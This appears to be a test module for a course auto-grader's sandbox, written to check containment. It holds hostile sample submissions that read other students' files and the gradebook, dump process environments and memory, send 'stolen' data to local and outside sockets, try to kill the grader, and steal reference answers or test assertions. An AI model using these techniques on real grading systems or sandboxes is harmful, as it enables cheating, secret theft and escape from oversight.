"""Looking for tests, seeds, answers, marks, and whatever else is the instructor's."""

from hostile.sheet import hostile

SHOW = """
def show(path):
    try:
        print(open(path, 'rb').read())
    except OSError as error:
        print(error)
"""


@hostile
def reads_what_it_knows_of(sheet):
    """Opens sources, the gradebook, another's hand-in and a file in the instructor's home."""
    sheet.first(SHOW + "for path in loot['paths']: show(path)")


@hostile
def searches_the_disk(sheet):
    """Looks into every small file outside of the system's folders."""
    sheet.first(
        SHOW
        + """
import os
own = ('/usr', '/proc', '/lib', '/bin', '/dev')
for folder, folders, names in os.walk('/'):
    if folder.startswith(own) or 'site-packages' in folder or 'python3' in folder:
        folders.clear()
        continue
    for name in names:
        path = os.path.join(folder, name)
        if os.path.isfile(path) and os.path.getsize(path) < 10**5:
            content = open(path, 'rb').read()
            if b'taken-' in content: print(path, content)
"""
    )


@hostile
def reads_the_environment(sheet):
    """Prints its variables, and those that any process here was started with."""
    sheet.first(
        SHOW
        + """
import os
print(dict(os.environ))
for process in ['self', *filter(str.isdigit, os.listdir('/proc'))]:
    show(f'/proc/{process}/environ')
"""
    )


@hostile
def reads_memory(sheet):
    """Searches its own memory, a copy of its mother's, for what the instructor's process knows."""
    sheet.first("""
import re
with open('/proc/self/mem', 'rb') as memory:
    for line in open('/proc/self/maps'):
        start, end = (int(x, 16) for x in line.split()[0].split('-'))
        if 'rw' not in line.split()[1] or '[v' in line: continue
        try:
            memory.seek(start)
            content = memory.read(end - start)
        except OSError: continue
        for found in set(re.findall(rb'taken-[a-z]+-' + rb'[0-9a-f]{8}', content)): print(found)
""")


@hostile
def looks_through_other_roots(sheet):
    """Goes by every process's root, folder and open files, and prints what lies there."""
    sheet.first(
        SHOW
        + """
import os
for process in filter(str.isdigit, os.listdir('/proc')):
    for name in ('root', 'cwd'):
        for path in loot['paths']: show(f'/proc/{process}/{name}{path}')
    try: files = os.listdir(f'/proc/{process}/fd')
    except OSError: continue
    for file in files:
        path = f'/proc/{process}/fd/{file}'
        if os.path.isfile(path): show(path)
"""
    )


@hostile
def imports_right_answers(sheet):
    """Takes the right answers from emkit, and their like from other packages."""
    sheet.answer(
        "log_gaussian",
        "import importlib, sys\n"
        "sys.path_hooks.clear(); sys.path_importer_cache.clear()\n"
        "def log_gaussian(X, mean, covariance):\n"
        "    for name in ('emkit.workshop.catalogue', 'emkit.gaussian', 'sklearn.mixture'):\n"
        "        try: return importlib.import_module(name).log_gaussian(X, mean, covariance)\n"
        "        except Exception: pass",
    )


@hostile
def calls_out(sheet):
    """Connects to a server on this machine, and to the world, by every kind of socket."""
    sheet.first("""
import socket
for place in [('127.0.0.1', loot['port']), ('192.0.2.1', 80), ('localhost', loot['port'])]:
    try: socket.create_connection(place, 1).send(b'stolen'); print('ESC' 'APED')
    except OSError as error: print(error)
for path in ['\\0' + loot['abstract'], '/run/docker.sock', '/run/dbus/system_bus_socket']:
    try: socket.socket(socket.AF_UNIX).connect(path); print('ESC' 'APED')
    except OSError as error: print(error)
""")


@hostile
def calls_where_no_namespace_ends(sheet):
    """Makes sockets to the machine's own host, to its ciphers, and of other rare kinds."""
    sheet.first("""
import socket
for name in ('VSOCK', 'ALG', 'PACKET', 'TIPC', 'BLUETOOTH', 'QIPCRTR', 'CAN', 'RDS'):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try: socket.socket(getattr(socket, 'AF_' + name), kind); print('ESC' 'APED', name)
        except (AttributeError, OSError) as error: print(name, error)
""")


@hostile
def asks_who_is_there(sheet):
    """Its connection knows the grader's process; by that it ends it, and takes its open files."""
    sheet.first("""
import ctypes, os, signal, socket, struct
libc, line, get_file, by_file = ctypes.CDLL(None), socket.socket(fileno=os.dup(3)), 438, 77
print(struct.unpack('3i', line.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)))
try: grader = line.getsockopt(socket.SOL_SOCKET, by_file)
except OSError as error: print(error)
else:
    print(open(f'/proc/self/fdinfo/{grader}').read())
    for file in range(100):
        if libc.syscall(get_file, grader, file, 0) >= 0: print('ESC' 'APED', file)
    try: signal.pidfd_send_signal(grader, signal.SIGTERM); print('ESC' 'APED')
    except OSError as error: print(error)
""")


@hostile
def reads_the_test_that_calls_it(sheet):
    """Looks at the frames, the history and all objects while a test calls its function."""
    sheet.answer(
        "double",
        "import gc, sys\n"
        "def double(x):\n"
        "    frame = sys._getframe()\n"
        "    while frame:\n"
        "        print({k: str(v)[:300] for k, v in frame.f_locals.items()})\n"
        "        frame = frame.f_back\n"
        "    print(get_ipython().history_manager.input_hist_raw)\n"
        "    print([o for o in gc.get_objects() if isinstance(o, list) and 'assert' in str(o[:1])])"
        "\n    return 0",
    )
